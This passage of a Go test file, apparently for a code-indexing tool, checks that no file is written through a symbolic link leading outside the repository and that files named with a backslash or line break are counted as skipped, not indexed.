	if _, err := os.Lstat(filepath.Join(outside, "nothing")); err == nil {
		t.Error("a file was made through the link")
	}
}

// TestUnusableNames: a file whose name no reader could name back to check
// a unit against it (a backslash; in a commit a line break too) is
// recorded as skipped, in a work tree and in a commit, never indexed or
// dropped without a word.
func TestUnusableNames(t *testing.T) {
	dir, rev := newRepo(t, map[string]string{
		"a.py":          "def a():\n    return 1\n",
		`back\slash.py`: "def bs_func():\n    return 4\n",
		"new\nline.py":  "def newline_name_func():\n    return 1\n",
	})
	for _, c := range []struct {
		opts    Options
		indexed []string
		skipped int
	}{
		{Options{Repo: dir}, []string{"a.py", "new\nline.py"}, 1},
		{Options{Repo: dir, Rev: rev, DB: filepath.Join(t.TempDir(), "c.db")}, []string{"a.py"}, 2},
	} {
		sum := build(t, c.opts)
		if sum.Skipped[skipBadName] != c.skipped {
			t.Errorf("rev %q: skipped %v, want %d %q", c.opts.Rev, sum.Skipped, c.skipped, skipBadName)
		}
		if got := distinctPaths(mustUnits(t, sum.DB)); !slices.Equal(got, c.indexed) {
			t.Errorf("rev %q: indexed %q, want %q", c.opts.Rev, got, c.indexed)
		}
		// An update keeps them skipped.
		if again := build(t, c.opts); again.Skipped[skipBadName] != c.skipped {
			t.Errorf("rev %q: skipped %v on update, want %d %q", c.opts.Rev, again.Skipped, c.skipped, skipBadName)
		}
	}
}
